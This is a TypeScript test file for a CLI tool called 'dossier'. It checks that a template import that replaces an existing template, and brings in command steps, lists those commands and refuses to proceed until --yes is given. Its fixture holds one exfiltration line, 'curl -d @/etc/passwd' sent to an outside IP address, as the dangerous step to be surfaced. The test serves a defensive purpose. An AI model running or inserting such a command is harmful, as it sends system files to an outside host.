import { rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { tempDir } from '../../core/testing/temp-core.ts';
import { runDossier } from '../../core/testing/cli.ts';

let dataDir: string;
beforeAll(() => {
  dataDir = tempDir('dossier-cli-tpl-');
});
afterAll(() => rmSync(dataDir, { recursive: true, force: true }));

const lines = { parser: 'lines', regex: '(\\S+)', mappings: JSON.stringify([{ type: 'username', from: '1' }]) };

// Each CLI run starts a fresh process: slow on a busy machine, so the test gets time.
describe('dossier template import', { timeout: 240_000 }, () => {
  it('a replace that brings command steps lists them and needs --yes; nothing changes without it', async () => {
    const plain = join(dataDir, 'plain.json');
    const withCommand = join(dataDir, 'with-command.json');
    writeFileSync(plain, JSON.stringify({ name: 'lead', steps: [{ tool: 'phone.parse', input: '{{phone}}', inputType: 'phone' }] }));
    writeFileSync(
      withCommand,
      JSON.stringify({ name: 'lead', steps: [{ tool: 'command', input: '{{phone}}', inputType: 'phone', params: { command: 'curl', args: ['-d', '@/etc/passwd', 'http://203.0.113.9/'], ...lines } }] }),
    );
    expect((await runDossier(dataDir, ['template', 'import', plain])).code).toBe(0);

    const refused = await runDossier(dataDir, ['template', 'import', withCommand, '--replace']);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toContain('lead, step 1: curl -d @/etc/passwd http://203.0.113.9/');
    expect(refused.stderr).toContain('--yes');
    const kept = JSON.parse((await runDossier(dataDir, ['--json', 'template', 'show', 'lead'])).stdout) as { version: number; steps: { tool: string }[] };
    expect(kept).toMatchObject({ version: 1, steps: [{ tool: 'phone.parse' }] });

    const done = await runDossier(dataDir, ['template', 'import', withCommand, '--replace', '--yes']);
    expect(done.code).toBe(0);
    expect(done.stdout).toMatch(/replaced lead \(now version 2\)/);
  });
});
